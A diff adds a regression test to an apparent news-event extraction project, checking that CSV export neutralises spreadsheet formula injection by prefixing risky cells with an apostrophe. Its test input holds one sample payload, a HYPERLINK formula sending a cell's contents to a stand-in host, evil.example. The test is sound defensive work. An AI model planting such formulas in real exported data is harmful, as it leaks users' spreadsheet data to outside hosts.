@@ -4,6 +4,7 @@ Each test is a defect that was found by trying the project as an attacker, or as
 messy files, would (issue 12): the inputs are paraphrased shapes of what broke it.
 """
 
+import csv
 import io
 import json
 import os
@@ -467,3 +468,23 @@ def test_sigterm_cleans_up_as_ctrl_c(tmp_path):
     _, err = proc.communicate(timeout=60)
     assert proc.returncode == 143, err.decode()[-500:]
     assert list(temp.iterdir()) == [] and not list((tmp_path / "out").glob("*"))
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_a_sentence_that_is_a_spreadsheet_formula_stays_text_in_csv(tmp_path, start):
+    """An article's sentence is written in the notes column of a CSV: opened in a spreadsheet, a cell beginning
+    with ``=`` ran as a formula (``=HYPERLINK`` to anywhere). It is written with a ``'`` before it, and read back
+    as it was."""
+    text = f'{start}HYPERLINK("http://evil.example/?x="&A1, "Troops retook Hit") in a report on Monday.'
+    events = extract_events([Article("evil", "", text, date(2016, 4, 14))])
+    assert events and events[0].sentence.startswith(start)
+    path = write_events(events, tmp_path / "events.csv")
+    cells = next(csv.DictReader(path.open(encoding="utf-8")))
+    assert cells["notes"].startswith("'" + start)
+    assert all(not v.startswith(("=", "+", "@")) for v in cells.values())
+    back, skipped = read_events(path)
+    assert skipped == [] and back[0].sentence == events[0].sentence
+    control = tmp_path / "control.csv"
+    assert cli("control", str(path), "--out", str(control))[0] == 0
+    changes = list(csv.DictReader((tmp_path / "control.csv.changes.csv").open(encoding="utf-8")))
+    assert all(not row["note"].startswith(("=", "+", "@", "-")) for row in changes)
